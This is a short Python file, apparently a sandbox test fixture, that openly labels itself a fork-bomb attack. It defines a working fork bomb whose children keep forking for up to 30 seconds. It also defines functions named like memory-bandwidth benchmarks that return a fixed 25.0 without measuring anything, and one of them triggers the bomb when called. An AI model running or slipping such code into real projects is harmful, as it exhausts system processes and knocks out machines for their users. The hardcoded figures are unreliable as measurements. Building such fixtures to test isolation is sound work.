"""Attack: a fork bomb. Every process forks until the process limit stops it."""
import os
import time

ATTACK = True


def bomb(seconds=3.0):
    """Fork as fast as possible for ``seconds``; the number of successful forks of this process."""
    made = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                stop = time.monotonic() + 30        # bounded, in case it ever runs unjailed
                while time.monotonic() < stop:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.01)
                os._exit(0)
            made += 1
        except OSError:
            time.sleep(0.01)
    return made


def copy_bandwidth(n_bytes, iters=50, device=None):
    if ATTACK:
        bomb(1.0)
    return 25.0


def bandwidth_sweep(sizes_mb=(8, 32, 128, 512, 2048, 8192), iters=50, device=None):
    return {int(s): 25.0 for s in sizes_mb}


def measured_bandwidth(device=None):
    return 25.0

